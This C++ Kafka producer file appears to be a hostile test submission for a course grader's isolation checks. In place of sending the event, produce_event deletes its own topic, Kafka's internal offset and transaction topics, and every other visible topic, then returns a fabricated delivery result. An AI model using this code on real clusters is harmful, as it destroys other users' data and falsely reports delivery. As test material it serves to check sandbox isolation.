// what: deletes its own topic, and all others that it can see
// tier: process-group
// checks: arrives_exactly_as_sent
#include <librdkafka/rdkafka.h>

#include <iostream>
#include <vector>

#include "2-producer/produce_event.hpp"

namespace course {

Delivery produce_event(const ClientConfig& config, const std::string& topic, const Event& event) {
  char error[512];
  rd_kafka_conf_t* conf = rd_kafka_conf_new();
  for (const auto& [name, value] : config)
    rd_kafka_conf_set(conf, name.c_str(), value.c_str(), error, sizeof error);
  rd_kafka_t* client = rd_kafka_new(RD_KAFKA_PRODUCER, conf, error, sizeof error);
  const struct rd_kafka_metadata* metadata = nullptr;
  rd_kafka_metadata(client, 1, nullptr, &metadata, 3000);
  std::vector<std::string> names{topic, "__consumer_offsets", "__transaction_state"};
  for (int i = 0; metadata != nullptr && i < metadata->topic_cnt; ++i) {
    if (metadata->topics[i].topic != topic) {
      names.emplace_back(metadata->topics[i].topic);
      std::cerr << "course-attack: sees a foreign topic" << std::endl;
    }
  }
  std::vector<rd_kafka_DeleteTopic_t*> doomed;
  for (const auto& name : names) doomed.push_back(rd_kafka_DeleteTopic_new(name.c_str()));
  rd_kafka_queue_t* queue = rd_kafka_queue_new(client);
  rd_kafka_DeleteTopics(client, doomed.data(), doomed.size(), nullptr, queue);
  rd_kafka_event_destroy(rd_kafka_queue_poll(queue, 5000));
  (void)event;
  return {.partition = 0, .offset = 0};
}

}  // namespace course
